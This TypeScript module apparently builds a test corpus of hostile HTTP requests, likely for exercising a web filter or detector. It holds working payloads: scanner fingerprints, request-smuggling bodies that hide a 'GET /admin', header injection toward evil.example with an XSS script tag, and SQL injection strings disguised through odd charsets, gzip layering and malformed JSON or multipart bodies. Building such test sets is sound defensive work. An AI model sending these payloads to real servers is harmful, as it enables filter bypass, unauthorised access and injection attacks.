import { gzipSync } from 'node:zlib';
import { getMessage, type Message, postMessage } from '../message.ts';
import type { TechniqueFamily } from '../technique.ts';

const FORM = 'application/x-www-form-urlencoded';
const none = { places: [], fields: [] } as const;

export const scannerTechniques: TechniqueFamily = {
  ...none,
  about: 'any site: the client is a tool that looks for holes',
  techniques: {
    'name of a tool': {
      does: 'Names a tool in `User-Agent`',
      needs: 'nothing',
      requests: () =>
        [
          'sqlmap/1.8.4#stable (https://sqlmap.org)',
          'Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:Port Check)',
          'Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)',
          'WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)',
          'gobuster/3.6',
          'Fuzz Faster U Fool v2.1.0',
          'Nuclei - Open-source project (github.com/projectdiscovery/nuclei)',
          'masscan/1.3 (https://github.com/robertdavidgraham/masscan)',
          'Mozilla/4.0 (compatible; Nessus)',
          'DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)',
          'Wfuzz/3.1.0',
          'ZmEu',
          'feroxbuster/2.10.1',
          'Acunetix Web Vulnerability Scanner',
          'commix/v3.9-stable',
        ].map((agent) => getMessage('/', ['User-Agent', agent])),
    },
    'probe of a tool': {
      does: 'Asks for a path or sends a header that only a tool uses',
      needs: 'nothing',
      requests: () => [
        getMessage('/nmaplowercheck1731830400'),
        getMessage('/acunetix-wvs-test-for-some-inexistent-file'),
        getMessage('/nice%20ports%2C/Tri%6Eity.txt%2ebak'),
        getMessage('/', ['X-Scanner', 'Netsparker']),
        getMessage('/', ['Acunetix-Scanning-agreement', 'Third Party Scanning PROHIBITED']),
        getMessage('/w00tw00t.at.ISC.SANS.DFind:)'),
        getMessage('/', ['X-Wipp', '1']),
      ],
    },
  },
};

const odd = (method: string, ...headers: [string, string][]): Message => ({
  method,
  target: '/',
  headers,
  body: '',
});

export const protocolTechniques: TechniqueFamily = {
  ...none,
  about: 'servers that read a request differently',
  techniques: {
    framing: {
      does: 'Frames the body in two ways, so that a further request hides in it',
      needs: 'two servers in a row',
      requests: () => [
        postMessage(
          '/',
          FORM,
          '0\r\n\r\nGET /admin HTTP/1.1\r\nX: x',
          ['Transfer-Encoding', 'chunked'],
          ['Content-Length', '6'],
        ),
        postMessage('/', FORM, '0\r\n\r\nG', ['Transfer-Encoding', 'xchunked']),
        postMessage('/', FORM, 'x=1', ['Content-Length', '3'], ['content-length', '13']),
        postMessage(
          '/',
          FORM,
          '0\r\n\r\n',
          ['Transfer-Encoding', 'chunked'],
          ['Transfer-encoding', 'identity'],
          ['Content-Length', '4'],
        ),
        postMessage(
          '/',
          FORM,
          '0\r\n\r\n',
          ['Transfer-Encoding', '\x0bchunked'],
          ['Content-Length', '4'],
        ),
        {
          method: 'GET',
          target: '/',
          headers: [['Content-Length', '30']],
          body: 'GET /admin HTTP/1.1\r\nHost: x\r\n\r\n',
        },
      ],
    },
    methods: {
      does: 'Uses a method that shows headers or that sites do not have',
      needs: 'servers that allow it',
      requests: () => [
        odd('TRACE'),
        odd('TRACK'),
        odd('DEBUG', ['Command', 'stop-debug']),
        odd('JEFF'),
        odd('CONNECT'),
      ],
    },
    'headers for others': {
      does: 'Sends headers that change the address, the method, the proxy or the user for the application',
      needs: 'applications that trust them',
      requests: () => [
        odd('GET', ['Proxy', 'http://evil.example:8080']),
        odd('GET', ['X-Original-URL', '/admin']),
        odd('GET', ['X-Rewrite-URL', '/admin/users']),
        odd('GET', ['Connection', 'close, X-Forwarded-For, Authorization']),
        odd('GET', [
          'X-Middleware-Subrequest',
          'middleware:middleware:middleware:middleware:middleware',
        ]),
        odd('GET', ['X-Forwarded-Host', 'evil.example"><script>alert(1)</script>']),
        odd('GET', ['Host', 'www.shop.test:80@evil.example']),
      ],
    },
    exhaustion: {
      does: 'Asks for many parts of a file or sends what takes long to read',
      needs: 'servers without limits',
      requests: () => [
        odd('GET', ['Range', `bytes=${Array.from({ length: 60 }, (_, at) => `${at}-`).join(',')}`]),
        odd('GET', ['Range', 'bytes=0-18446744073709551615']),
        odd('GET', ['Accept-Language', `${'en-US;'.repeat(300)}q`]),
      ],
    },
  },
};

export const evasionTechniques: TechniqueFamily = {
  ...none,
  about: 'filters that read a request differently from the application',
  techniques: {
    'other charset': {
      does: 'Declares a charset that hides what the body says',
      needs: 'servers that know the charset',
      requests: () => [
        postMessage(
          '/login',
          `${FORM}; charset=ibm037`,
          '\xa4\xa2\x85\x99\x7e\x7d\x40\x96\x99\x40\xf1\x7e\xf1',
        ),
        postMessage('/login', `${FORM}; charset=utf-7`, 'user=+ACc- or 1+AD0-1--'),
        postMessage(
          '/api',
          'application/json; charset=utf-32',
          Buffer.from('{"a":1}', 'utf16le').toString('latin1'),
        ),
      ],
    },
    'content coding': {
      does: 'Declares a content coding that the body does not have, or several',
      needs: 'servers that decode leniently',
      requests: () => [
        postMessage('/login', FORM, 'user=%27+or+1%3D1--+', ['Content-Encoding', 'gzip']),
        postMessage('/login', FORM, gzipSync(gzipSync('user=%27+or+1%3D1--+')).toString('latin1'), [
          'Content-Encoding',
          'gzip, gzip',
        ]),
        postMessage('/login', FORM, 'user=%27+or+1%3D1--+', ['Content-Encoding', 'x-unknown']),
      ],
    },
    'broken bodies': {
      does: 'Sends a body that is no valid document of its type, so that a strict reader gives up',
      needs: 'servers that read leniently',
      requests: () => [
        postMessage('/login', 'application/json', `{"user":"' or 1=1-- ","pass":"x"`),
        postMessage('/login', 'application/json', `{"user":"x"} {"user":"' union select 1,2-- "}`),
        postMessage('/login', 'application/json', `{/*c*/"user":"' or '1'='1",}`),
        postMessage('/login', 'application/json', `{"user":"maria","user":"' or 7=7-- "}`),
        postMessage(
          '/login',
          'multipart/form-data',
          `--x\r\nContent-Disposition: form-data; name="user"\r\n\r\n' or 1=1-- \r\n--x--\r\n`,
        ),
        postMessage(
          '/login',
          'multipart/form-data; boundary=a; boundary=b',
          `--b\r\nContent-Disposition: form-data; name="user"\r\n\r\n' or 1=1-- \r\n--b--\r\n`,
        ),
        postMessage(
          '/login',
          'multipart/form-data; boundary=x',
          `--x\nContent-Disposition: form-data; name="user"\n\n' or 1=1-- \n--x--\n`,
        ),
        postMessage('/login', 'text/plain', 'user=%27+or+1%3D1--+&pass=x'),
        postMessage('/login', 'image/png', 'user=%27+or+1%3D1--+&pass=x'),
        postMessage('/login', '', "user=' or 1=1-- &pass=x"),
        postMessage('/api', 'application/xml', `<a><b>' or 1=1-- </a>`),
      ],
    },
  },
};
